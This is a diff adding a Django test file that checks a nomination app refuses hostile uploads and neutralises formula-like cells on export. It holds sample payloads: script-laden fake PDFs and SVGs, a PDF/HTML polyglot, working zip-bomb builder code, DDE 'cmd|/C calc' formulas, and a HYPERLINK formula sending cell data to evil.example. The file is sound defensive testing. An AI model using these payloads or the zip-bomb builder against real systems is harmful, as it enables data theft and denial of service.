@@ -1,0 +1,584 @@
+"""Hostile uploads: a legal product's document (branch pages and API) and a spreadsheet import
+are refused with a clear message, in the user's language, and nothing is stored — no legal
+product, no import job, no nomination, no file under MEDIA_ROOT. Formula-like cells are
+imported as the text they are, and no export hands them to a spreadsheet as formulas."""
+
+import csv
+import io
+import struct
+import zipfile
+import zlib
+
+import openpyxl
+import pytest
+from django.conf import settings
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.utils import translation
+from django.utils.html import escape
+from rest_framework.test import APIClient
+
+from candidates import services
+from candidates.enums import ImportStatus, LegalProductType
+from candidates.models import (
+    BusinessData,
+    Candidate,
+    Category,
+    Edition,
+    GovernmentData,
+    ImportJob,
+    LegalProduct,
+    Nomination,
+    NominationTransition,
+    Regency,
+)
+from candidates.spreadsheets import BUSINESS_COLUMNS
+
+pytestmark = pytest.mark.django_db
+
+GORONTALO = "cabang.gorontalo@paritrana.test"
+PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
+NOT_PDF = "Only PDF documents are accepted; this file is not a PDF."
+NOT_XLSX = "This is not a readable XLSX workbook. Save it again as .xlsx or .csv."
+NOT_CSV = "This is not a CSV text file. Save it again as .xlsx or .csv."
+WRONG_SUFFIX = "Upload an .xlsx or .csv file (save an .xls file again as .xlsx)."
+SCRIPT = b"<script>alert(document.cookie)</script>"
+
+FAKE_PDFS = {
+    "html": ("perda.pdf", b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"),
+    "text": ("perda.pdf", b"Peraturan Daerah Kabupaten Gorontalo Nomor 7 Tahun 2020\n%%EOF\n"),
+    "svg": (
+        "perda.svg",
+        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
+    ),
+    "svg-named-pdf": (
+        "perda.pdf",
+        b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
+    ),
+    # A PDF/HTML polyglot: PDF readers accept the header anywhere in the first kilobyte, a
+    # browser guessing the type sees the markup first.
+    "html-before-the-header": ("perda.pdf", b"<html>" + SCRIPT + b"</html>\n" + PDF),
+}
+
+
+def in_language(language: str, msgid: str, **params) -> str:
+    with translation.override(language):
+        text = translation.gettext(msgid)
+    return text % params if params else text
+
+
+def media_files() -> list[str]:
+    root = settings.MEDIA_ROOT
+    if not root.exists():
+        return []
+    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())
+
+
+def stored() -> dict:
+    """Everything an upload could leave behind."""
+    return {
+        "legal_products": LegalProduct.objects.count(),
+        "import_jobs": ImportJob.objects.count(),
+        "candidates": Candidate.objects.count(),
+        "nominations": Nomination.objects.count(),
+        "transitions": NominationTransition.objects.count(),
+        "business_data": BusinessData.objects.count(),
+        "government_data": GovernmentData.objects.count(),
+        "files": media_files(),
+    }
+
+
+@pytest.fixture
+def staff(demo_accounts):
+    return demo_accounts[GORONTALO]
+
+
+@pytest.fixture
+def draft(staff):
+    """Kabupaten Gorontalo's 2021 draft, registered by its branch through the services."""
+    candidate = services.government_candidate_get_or_create(
+        actor=staff, regency=Regency.objects.get(code="75.01")
+    )
+    category = Category.objects.get(edition__year=2021, code="pemerintah-kabupaten-kota")
+    return services.nomination_create(actor=staff, candidate=candidate, category=category)
+
+
+def post_legal_product(client, nomination, name, content, content_type="application/pdf"):
+    return client.post(
+        f"/branch/nominations/{nomination.pk}/legal-products/",
+        {
+            "type": LegalProductType.PERDA,
+            "number": "7",
+            "year": "2020",
+            "title": "Perlindungan Pekerja Rentan",
+            "pdf": SimpleUploadedFile(name, content, content_type=content_type),
+        },
+        HTTP_HX_REQUEST="true",
+    )
+
+
+def api_legal_product(api, nomination, name, content, content_type="application/pdf"):
+    return api.post(
+        f"/api/v1/nominations/{nomination.pk}/legal-products/",
+        {
+            "type": LegalProductType.PERDA,
+            "number": "7",
+            "year": 2020,
+            "title": "Perlindungan Pekerja Rentan",
+            "pdf": SimpleUploadedFile(name, content, content_type=content_type),
+        },
+        format="multipart",
+    )
+
+
+# ---------------------------------------------------------------------------------------------
+# Legal-product documents
+
+
+@pytest.mark.parametrize("case", FAKE_PDFS)
+def test_fake_pdf_on_the_branch_page_is_refused_and_nothing_is_stored(client, staff, draft, case):
+    name, content = FAKE_PDFS[case]
+    client.force_login(staff)
+    before = stored()
+
+    response = post_legal_product(client, draft, name, content)
+
+    assert response.status_code == 400
+    assert response.context["legal_form"].errors == {"pdf": [in_language("id", NOT_PDF)]}
+    assert escape(in_language("id", NOT_PDF)) in response.content.decode()
+    assert stored() == before
+
+
+def test_fake_pdf_message_follows_the_language_cookie(client, staff, draft):
+    client.force_login(staff)
+    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    before = stored()
+
+    response = post_legal_product(client, draft, *FAKE_PDFS["html"])
+
+    assert response.status_code == 400
+    assert escape(NOT_PDF) in response.content.decode()
+    assert stored() == before
+
+
+@pytest.mark.parametrize("case", FAKE_PDFS)
+def test_fake_pdf_through_the_api_is_refused_and_nothing_is_stored(staff, draft, case):
+    name, content = FAKE_PDFS[case]
+    api = APIClient()
+    api.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    api.force_authenticate(staff)
+    before = stored()
+
+    response = api_legal_product(api, draft, name, content)
+
+    assert (response.status_code, response.json()) == (400, {"pdf": [NOT_PDF]})
+    assert stored() == before
+
+
+def test_oversized_pdf_is_refused_on_the_page_and_through_the_api(client, staff, draft, settings):
+    settings.PARITRANA_MAX_UPLOAD_MB = 1
+    big = PDF[:-6] + b"0" * (1024 * 1024) + b"%%EOF\n"
+    client.force_login(staff)
+    api = APIClient()
+    api.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    api.force_authenticate(staff)
+    before = stored()
+
+    page = post_legal_product(client, draft, "besar.pdf", big)
+    through_api = api_legal_product(api, draft, "besar.pdf", big)
+
+    message = "The file is %(size)s MB; the limit is %(limit)s MB."
+    assert page.status_code == 400
+    assert page.context["legal_form"].errors == {
+        "pdf": [in_language("id", message, size="1,0", limit=1)]
+    }
+    assert (through_api.status_code, through_api.json()) == (
+        400,
+        {"pdf": ["The file is 1.0 MB; the limit is 1 MB."]},
+    )
+    assert stored() == before
+
+
+def test_pdf_with_markup_after_its_header_is_kept_and_only_served_as_a_pdf_download(
+    client, staff, draft
+):
+    # Decision: what follows %PDF- is the PDF's own business. The markup is inert text to a PDF
+    # reader, and no browser renders the file as a page: it is served as an application/pdf
+    # attachment with nosniff, never inline and never as text/html.
+    polyglot = PDF[:-6] + b"<html><body>" + SCRIPT + b"</body></html>\n%%EOF\n"
+    client.force_login(staff)
+    api = APIClient()
+    api.force_authenticate(staff)
+
+    response = post_legal_product(client, draft, "perda.html", polyglot, "text/html")
+
+    product = LegalProduct.objects.get(nomination=draft)
+    assert response.status_code == 200
+    assert product.pdf.name.endswith(".pdf")
+    assert (settings.MEDIA_ROOT / product.pdf.name).read_bytes() == polyglot
+    page = client.get(f"/documents/legal-products/{product.pk}/")
+    document = api.get(f"/api/v1/nominations/{draft.pk}/legal-products/{product.pk}/document/")
+    for served in (page, document):
+        assert served.status_code == 200
+        assert served["Content-Type"] == "application/pdf"
+        assert served["Content-Disposition"].startswith("attachment;")
+        assert served["X-Content-Type-Options"] == "nosniff"
+        assert b"".join(served.streaming_content) == polyglot
+
+
+# ---------------------------------------------------------------------------------------------
+# Spreadsheet imports
+
+
+def upload(client, name, content, kind="business", year=2021):
+    return client.post(
+        "/branch/import/",
+        {
+            "kind": kind,
+            "edition": Edition.objects.get(year=year).pk,
+            "file": SimpleUploadedFile(name, content),
+        },
+    )
+
+
+def workbook(rows=(), header=None) -> bytes:
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.title = "Data"
+    sheet.append(header or [c.header for c in BUSINESS_COLUMNS])
+    for row in rows:
+        sheet.append(row)
+    output = io.BytesIO()
+    book.save(output)
+    return output.getvalue()
+
+
+def _deflate(*segments: tuple[bytes, int]) -> tuple[bytes, int, int]:
+    """A raw deflate stream of each (block, times) in turn, each block compressed once and its
+    compressed form repeated (a full flush makes every copy independent): the stream, its
+    CRC-32 and its unpacked size."""
+    stream, crc, size = b"", 0, 0
+    for block, times in segments:
+        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+        stream += (packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)) * times
+        for _ in range(times):
+            crc = zlib.crc32(block, crc)
+        size += len(block) * times
+    stream += zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # the final, empty block
+    return stream, crc, size
+
+
+def _zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
+    """A ZIP of already deflated members (name, stream, crc, size), written by hand because
+    zipfile compresses what it writes."""
+    local, central = b"", b""
+    for name, stream, crc, size in members:
+        encoded = name.encode()
+        header = struct.pack(
+            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(stream), size, len(encoded), 0
+        )
+        central += struct.pack(
+            "<IHHHHHHIIIHHHHHII",
+            0x02014B50,
+            20,
+            20,
+            0,
+            8,
+            0,
+            0,
+            crc,
+            len(stream),
+            size,
+            len(encoded),
+            0,
+            0,
+            0,
+            0,
+            0,
+            len(local),
+        )
+        central += encoded
+        local += header + encoded + stream
+    end = struct.pack(
+        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(local), 0
+    )
+    return local + central + end
+
+
+def _stored_members(content: bytes, replace: dict) -> list[tuple[str, bytes, int, int]]:
+    """The members of a real workbook, deflated again, with `replace`'s members instead."""
+    members = []
+    with zipfile.ZipFile(io.BytesIO(content)) as source:
+        for info in source.infolist():
+            if info.filename in replace:
+                members.append((info.filename, *replace[info.filename]))
+            else:
+                members.append((info.filename, *_deflate((source.read(info.filename), 1))))
+    return members
+
+
+def zip_bomb(unpacked_mb: int) -> bytes:
+    """A workbook as openpyxl writes it whose sheet XML is a real sheet of `unpacked_mb` MB of
+    rows, packed about a thousand times."""
+    content = workbook()
+    with zipfile.ZipFile(io.BytesIO(content)) as source:
+        sheet = source.read("xl/worksheets/sheet1.xml")
+    start, end = sheet.split(b"</sheetData>")
+    row = b'<row><c t="inlineStr"><is><t>bom</t></is></c></row>'
+    block = row * (1024 * 1024 // len(row))
+    stream = _deflate((start, 1), (block, unpacked_mb), (b"</sheetData>" + end, 1))
+    return _zip(_stored_members(content, {"xl/worksheets/sheet1.xml": stream}))
+
+
+@pytest.fixture
+def zip_opened(monkeypatch):
+    """The names of the ZIP members anything unpacks during the test."""
+    opened = []
+    original = zipfile.ZipFile.open
+
+    def spying(self, name, *args, **kwargs):
+        opened.append(getattr(name, "filename", name))
+        return original(self, name, *args, **kwargs)
+
+    monkeypatch.setattr(zipfile.ZipFile, "open", spying)
+    return opened
+
+
+def test_xlsx_zip_bomb_is_refused_unread_and_nothing_is_stored(client, staff, zip_opened):
+    bomb = zip_bomb(300)
+    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
+        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
+    # Small on disk, hundreds of MB unpacked, and a workbook a spreadsheet reader would open.
+    assert (len(bomb) < 1024 * 1024, sheet.file_size > 250 * 1024 * 1024) == (True, True)
+    rows = openpyxl.load_workbook(io.BytesIO(bomb), read_only=True)["Data"].iter_rows(max_row=2)
+    assert [cell.value for cell in next(rows)][:2] == ["NPP", "Nama badan usaha"]
+    zip_opened.clear()
+    client.force_login(staff)
+    before = stored()
+
+    response = upload(client, "bom.xlsx", bomb)
+
+    ratio = sheet.file_size // sheet.compress_size
+    assert ratio > 100
+    assert response.status_code == 200
+    message = (
+        "This workbook unpacks to %(ratio)s times its size, which no spreadsheet program "
+        "produces; it was refused without being opened. Save it again from your spreadsheet "
+        "program."
+    )
+    assert response.context["form"].errors == {"file": [in_language("id", message, ratio=ratio)]}
+    assert zip_opened == []  # not one member was unpacked
+    assert stored() == before
+
+
+def test_xlsx_of_many_small_tightly_packed_parts_is_refused_by_its_unpacked_size(
+    client, staff, zip_opened
+):
+    # Each part stays under the size from which the ratio is checked; together they unpack
+    # to 600 MB.
+    part = _deflate((b"<c/>" * (255 * 1024), 1))
+    content = workbook()
+    members = _stored_members(content, {})
+    members += [(f"xl/media/part{i}.xml", *part) for i in range(600)]
+    bomb = _zip(members)
+    zip_opened.clear()
+    client.force_login(staff)
+    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    before = stored()
+
+    response = upload(client, "bom.xlsx", bomb)
+
+    assert response.context["form"].errors == {
+        "file": [
+            "This workbook would unpack to 597 MB; the limit is 512 MB. Split it into smaller "
+            "files."
+        ]
+    }
+    assert escape(response.context["form"].errors["file"][0]) in response.content.decode()
+    assert zip_opened == []
+    assert stored() == before
+
+
+def _zip_without_content_types() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("xl/worksheets/sheet1.xml", b"<worksheet/>")
+    return buffer.getvalue()
+
+
+NOT_SPREADSHEETS = {
+    "text named xlsx": ("data.xlsx", b"NPP;Nama badan usaha\n75000001;PT A\n", NOT_XLSX),
+    "pdf named xlsx": ("data.xlsx", PDF, NOT_XLSX),
+    "svg named xlsx": ("data.xlsx", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT, NOT_XLSX),
+    "zip that is no workbook": ("data.xlsx", _zip_without_content_types(), NOT_XLSX),
+    "truncated workbook": ("data.xlsx", workbook()[:-200], NOT_XLSX),
+    "html named csv": ("data.csv", b"\xef\xbb\xbf <!DOCTYPE html><html>" + SCRIPT, NOT_CSV),
+    "svg named csv": ("data.csv", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT, NOT_CSV),
+    "binary named csv": ("data.csv", b"NPP;Nama\x00\x01\x02", NOT_CSV),
+    "html": ("data.html", b"<html>" + SCRIPT + b"</html>", WRONG_SUFFIX),
+    "svg": ("data.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT, WRONG_SUFFIX),
+    "old excel": ("data.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", WRONG_SUFFIX),
+}
+
+
+@pytest.mark.parametrize("case", NOT_SPREADSHEETS)
+def test_file_that_is_not_a_spreadsheet_is_refused_and_nothing_is_stored(client, staff, case):
+    name, content, message = NOT_SPREADSHEETS[case]
+    client.force_login(staff)
+    before = stored()
+
+    response = upload(client, name, content)
+
+    assert response.status_code == 200
+    assert response.context["form"].errors == {"file": [in_language("id", message)]}
+    assert escape(in_language("id", message)) in response.content.decode()
+    assert stored() == before
+
+
+def test_not_a_spreadsheet_message_follows_the_language_cookie(client, staff):
+    client.force_login(staff)
+    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    before = stored()
+
+    response = upload(client, "data.xlsx", b"<html>" + SCRIPT + b"</html>")
+
+    assert response.context["form"].errors == {"file": [NOT_XLSX]}
+    assert escape(NOT_XLSX) in response.content.decode()
+    assert stored() == before
+
+
+def test_oversized_import_is_refused_and_nothing_is_stored(client, staff, settings):
+    settings.PARITRANA_IMPORT_MAX_MB = 1
+    header = ";".join(c.header for c in BUSINESS_COLUMNS).encode() + b"\n"
+    big = header + b"75000001;PT A\n" * (1024 * 1024 // 14 + 1)
+    client.force_login(staff)
+    before = stored()
+
+    id_response = upload(client, "besar.csv", big)
+    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    en_response = upload(client, "besar.csv", big)
+
+    message = "The file is larger than %(limit)s MB."
+    assert id_response.context["form"].errors == {"file": [in_language("id", message, limit=1)]}
+    assert en_response.context["form"].errors == {"file": ["The file is larger than 1 MB."]}
+    assert stored() == before
+
+
+# ---------------------------------------------------------------------------------------------
+# Formula injection: imported as text, never exported as a formula
+
+# Decision: kept as the literal text they are. Names, notes and phone numbers rightly start
+# with "-", "+" or "@" ("+62 435 …"); a cell is dangerous only when a spreadsheet program opens
+# an export, so every export neutralises it (candidates.spreadsheets.escape_cell,
+# ceremonies.opendata.neutralise, the ranking's XLSX).
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=3+4",
+]
+
+
+def _business_row(i: int, name: str) -> list:
+    values = {
+        "npp": f"7577{i:04d}",
+        "name": name,
+        "sector": name,
+        "scale": "besar",
+        "regency": "75.71",
+        "employees_total": 120,
+        "employees_registered": 110,
+        "jkk_enrolled": 110,
+        "jkm_enrolled": 110,
+        "jht_enrolled": 100,
+        "jp_enrolled": 90,
+        "jkp_enrolled": 0,
+        "reported_wages": 400_000_000,
+        "actual_payroll": 420_000_000,
+        "arrears_months": 0,
+        "contractors": 2,
+        "contractor_workers": 30,
+        "contractor_workers_registered": 25,
+        "csr_vulnerable_workers": 10,
+        "justification": name,
+    }
+    return [values.get(c.field) for c in BUSINESS_COLUMNS]
+
+
+def formula_workbook() -> bytes:
+    """Formula-like text typed as text: the cells are strings, not formulas."""
+    book = openpyxl.load_workbook(io.BytesIO(workbook()))
+    sheet = book["Data"]
+    for i, name in enumerate(FORMULAS):
+        sheet.append(_business_row(i, name))
+    for row in sheet.iter_rows(min_row=2):
+        for cell in row:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
+    output = io.BytesIO()
+    book.save(output)
+    return output.getvalue()
+
+
+def formula_csv() -> bytes:
+    out = io.StringIO()
+    writer = csv.writer(out, delimiter=";")
+    writer.writerow([c.header for c in BUSINESS_COLUMNS])
+    for i, name in enumerate(FORMULAS):
+        writer.writerow(["" if v is None else v for v in _business_row(i, name)])
+    return out.getvalue().encode("utf-8-sig")
+
+
+def _import(client, name: str, content: bytes) -> ImportJob:
+    response = upload(client, name, content)
+    job = ImportJob.objects.latest("pk")
+    assert (response.status_code, response["Location"]) == (302, f"/branch/import/{job.pk}/")
+    assert job.status == ImportStatus.VALIDATED, job.errors
+    client.post(f"/branch/import/{job.pk}/confirm/")
+    job.refresh_from_db()
+    assert job.status == ImportStatus.DONE
+    return job
+
+
+@pytest.mark.parametrize(
+    ("name", "content"), [("a.xlsx", formula_workbook), ("a.csv", formula_csv)]
+)
+def test_formula_like_cells_are_imported_as_their_text(client, staff, name, content):
+    client.force_login(staff)
+
+    _import(client, name, content())
+
+    candidates = Candidate.objects.filter(npp__startswith="7577").order_by("npp")
+    # Every text cell is read without its surrounding blanks (a leading tab or CR included).
+    expected = [f.strip() for f in FORMULAS]
+    assert [(c.name, c.sector) for c in candidates] == list(zip(expected, expected, strict=True))
+    assert [
+        d.justification
+        for d in BusinessData.objects.filter(nomination__candidate__in=candidates).order_by(
+            "nomination__candidate__npp"
+        )
+    ] == expected
+
+
+def test_imported_formula_like_cells_are_exported_as_text(client, staff):
+    client.force_login(staff)
+    _import(client, "a.xlsx", formula_workbook())
+    imported = sorted(f.strip() for f in FORMULAS)
+
+    xlsx = client.get("/nominations/export.xlsx")
+    exported_csv = client.get("/nominations/export.csv").content.decode("utf-8-sig")
+
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
+    header = [c.value for c in sheet[1]]
+    cells = [row[header.index("Kandidat")] for row in sheet.iter_rows(min_row=2)]
+    ours = [c for c in cells if c.value.lstrip("'") in imported]
+    assert sorted((c.value, c.data_type) for c in ours) == [("'" + n, "s") for n in imported]
+    assert {c.data_type for row in sheet.iter_rows() for c in row if c.value is not None} <= {
+        "s",
+        "n",
+    }
+    rows = list(csv.DictReader(io.StringIO(exported_csv, newline="")))
+    names = [r["Kandidat"] for r in rows if r["Kandidat"].lstrip("'") in imported]
+    assert sorted(names) == ["'" + n for n in imported]
+    assert not [r for r in rows for v in r.values() if v.startswith(("=", "+", "-", "@"))]
